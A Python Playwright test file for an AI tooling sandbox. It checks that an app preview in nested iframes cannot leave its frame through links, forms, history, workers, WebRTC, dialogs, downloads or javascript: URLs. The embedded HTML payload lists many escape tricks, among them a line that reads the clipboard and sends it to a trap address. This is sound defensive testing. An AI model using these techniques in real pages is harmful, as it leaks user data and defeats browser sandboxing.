"""An app that tries to leave its frame: by links, forms, its history, files, windows and dialogs."""

from patience import eventually
from playwright.sync_api import Dialog, Download

from browser.tab import Tab
from browser.test_app_network import served
from browser.trap import Trap
from toolbench.mcp.apps.preview import App, preview

LEAVING = """<!doctype html><meta http-equiv="refresh" content="0;url=TRAP/refresh">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["TRAP/speculation"]}],
 "prerender": [{"source": "list", "urls": ["TRAP/prerender"]}]}</script>
<a id="ping" ping="TRAP/ping" href="TRAP/link" target="_blank">a</a>
<a id="named" href="TRAP/named" target="_top">a</a><a id="save" download="x" href="data:text/plain,x">a</a>
<form id="form" method="post" target="_parent" action="TRAP/post"><input type="image" src="TRAP/button"></form>
<img attributionsrc="TRAP/attribution"><video poster="TRAP/poster" src="TRAP/video"></video>
<object data="TRAP/object"></object><embed src="TRAP/embed"><svg><image href="TRAP/svg"/><use href="TRAP/use#x"/></svg>
<style>@font-face { font-family: t; src: url(TRAP/font) } p { font-family: t; background: image-set(url(TRAP/set) 1x) }</style>
<p>waiting</p><script>
const tries = [
  () => ping.click(), () => named.click(), () => save.click(), () => form.submit(),
  () => new PaymentRequest([{supportedMethods: "TRAP/pay"}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).show().catch(() => 0),
  () => navigator.credentials.get({identity: {providers: [{configURL: "TRAP/identity", clientId: "1"}]}}).catch(() => 0),
  () => new WebTransport("TRAP/transport".replace("http", "https")).ready.catch(() => 0),
  () => new EventSource("TRAP/events"), () => new SharedWorker("TRAP/shared"),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('TRAP/worker')"]))),
  () => navigator.serviceWorker.register("TRAP/service").catch(() => 0),
  () => document.write("<img src=TRAP/written>"),
  () => { const f = document.createElement("iframe"); f.srcdoc = "<img src=TRAP/nested>"; document.body.append(f); },
  () => { const f = document.createElement("iframe"); document.body.append(f); new f.contentWindow.RTCPeerConnection(
    {iceServers: [{urls: "stun:TRAP".replace("http://", "")}]}).createDataChannel("x"); },
  () => alert("x"), () => confirm("x"), () => prompt("x"), () => print(),
  () => document.documentElement.requestFullscreen().catch(() => 0),
  () => document.documentElement.requestPointerLock?.()?.catch?.(() => 0),
  () => navigator.mediaDevices.getUserMedia({audio: true}).catch(() => 0),
  () => navigator.clipboard.readText().then((text) => { new Image().src = "TRAP/clipboard?" + text; }, () => 0),
  () => history.back(), () => history.go(-2), () => history.pushState({}, "", "#x"), () => history.go(-1),
  () => window.open("TRAP/open", "_top"), () => window.open("about:blank"), () => window.close(), () => top.close(),
  () => { location = "javascript:parent.tripwire('x')"; }, () => { parent.location = "javascript:alert(1)"; },
  () => { location.href = "data:text/html,<img src=TRAP/data>"; },
  () => { location.href = URL.createObjectURL(new Blob(["<img src=TRAP/blob>"], {type: "text/html"})); },
  () => { location.replace("TRAP/self"); }, () => { top.frames[0].location = "TRAP/outer"; },
];
for (const [number, attempt] of tries.entries()) {
  top.postMessage({number, of: tries.length}, "*");
  try { attempt(); } catch {}
}
</script>"""

CONTROL = "address => fetch(`${address}/control`, {mode: 'no-cors'}).catch(() => 0)"
PAGE = """<!doctype html><title>Notebook</title><label>Password <input id="password"></label>
<script>const begun = []; addEventListener("message", ({data}) => { if (data?.of) begun.push(data); });</script>"""
REACHED = {"GET /link", "GET /named", "GET /poster", "GET /svg", "POST /ping", "udp"}
"""Some of the requests that the same page sends outside a frame, before it leaves itself."""


def test_an_app_cannot_leave_its_frame(page: Tab) -> None:
    """No request, window, dialog, file or step in the history; the page stays where it is.

    Each attempt tells the page that it begins, so none was left out.
    """
    dialogs: list[Dialog] = []
    downloads: list[Download] = []
    with Trap() as trap:
        app = App("ui://x/app", LEAVING.replace("TRAP", trap.address))
        with (
            served("<title>Before</title>") as before,
            served(PAGE + preview(app)) as address,
        ):
            view = page.page
            view.on("dialog", lambda dialog: (dialogs.append(dialog), dialog.dismiss()))
            view.on("download", lambda download: downloads.append(download))
            view.goto(before)
            view.goto(address)
            view.frame_locator("iframe").locator("iframe").wait_for()
            eventually(
                lambda: (
                    bool(begun := view.evaluate("begun"))
                    and [note["number"] for note in begun] == [*range(begun[0]["of"])]
                ),
                what="every attempt has begun",
            )
            # They come after requests of the app
            for _ in range(3):
                view.evaluate(CONTROL, trap.address)
            eventually(
                lambda: trap.requests.count("GET /control") >= 3,
                what="the requests of the page have come",
            )
            assert trap.caught <= {"nothing", "GET /control"}
            assert view.url == address
            assert view.title() == "Notebook"
            assert len(view.context.pages) == 1
    assert (dialogs, downloads) == ([], [])


def test_the_attempts_reach_the_trap_where_nothing_holds_them(page: Tab) -> None:
    """The same page in a tab of its own sends requests, also of its clicks and to a UDP port."""
    with Trap() as trap, served(LEAVING.replace("TRAP", trap.address)) as address:
        page.page.goto(address, wait_until="commit")
        eventually(
            lambda: trap.caught >= REACHED,
            what="the requests of the attempts have come",
        )
